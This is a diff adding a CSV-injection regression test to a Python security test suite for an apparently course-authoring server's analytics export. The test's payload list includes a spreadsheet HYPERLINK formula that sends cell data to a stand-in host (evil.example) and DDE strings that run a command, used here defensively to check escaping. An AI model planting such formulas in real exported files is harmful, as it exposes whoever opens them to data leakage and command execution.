@@ -4,7 +4,9 @@ problem (400, 413, 415, …), never a 5xx, and stays up; and nothing a client se
 inside a response header with its CR/LF intact (Content-Disposition file names, Location, ETag,
 cookies, X-Request-Id). tests/integration/test_server.py covers the transport's own limits
 (headers, one oversized body, malformed HTTP)."""
+import csv
 import html as htmllib
+import io
 import json
 import re
 import time
@@ -252,6 +254,50 @@ class StoredScriptTest(unittest.TestCase):
             scheme = re.match(r"([a-z][a-z0-9+.-]*):", url.lower())
             if scheme:
                 self.assertIn(scheme.group(1), ("http", "https", "mailto"), (where, url))
+
+class CsvInjectionTest(unittest.TestCase):
+    """Analytics CSV files open in spreadsheets, where a cell that starts with = + - @ (or a tab
+    or CR) is a formula. Authors write prompts and lesson titles, learners write answers: none of
+    it may arrive as a formula in the file a co-owner or an admin opens."""
+
+    FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
+                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1")
+
+    def test_analytics_csv_cells_never_start_a_formula(self):
+        admin = staff(server, "admin")
+        slug = new_course(admin, lessons=())
+        status, _, draft = admin.call("POST", f"{BASE}/{slug}/lessons",
+                                      {"slug": "l", "title": self.FORMULAS[0], "markdown": "x"})
+        self.assertEqual(status, 201, draft)
+        for i, formula in enumerate(self.FORMULAS):
+            status, _, draft = admin.call(
+                "POST", f"{BASE}/{slug}/lessons/l/exercises",
+                {"exercise": {"id": f"q{i}", "type": "short_text", "prompt": formula,
+                              "answers": ["right"]}})
+            self.assertEqual(status, 201, (formula, draft))
+        status, _, body = admin.call("POST", f"{BASE}/{slug}/publish")
+        self.assertEqual(status, 201, body)
+        time.sleep(1.1)
+        for formula in self.FORMULAS:
+            student = learner(server)
+            for i in range(len(self.FORMULAS)):
+                status, _, _ = student.call("POST", f"/api/exercises/{slug}.q{i}/attempts",
+                                            {"answer": formula})
+                self.assertEqual(status, 201)
+        cells = 0
+        for what in ("items", "funnel"):
+            status, headers, data = server.request(
+                "GET", f"/api/analytics/courses/{slug}/{what}?format=csv",
+                headers={"Authorization": f"Bearer {admin.token}"})
+            self.assertEqual(status, 200, data[:300])
+            self.assertTrue(headers["content-type"].startswith("text/csv"))
+            for row in csv.reader(io.StringIO(data.decode())):
+                for cell in row:
+                    cells += 1
+                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                        float(cell)  # only a number may start so (a negative discrimination)
+        self.assertGreater(cells, 20)
+
 
 if __name__ == "__main__":
     unittest.main()
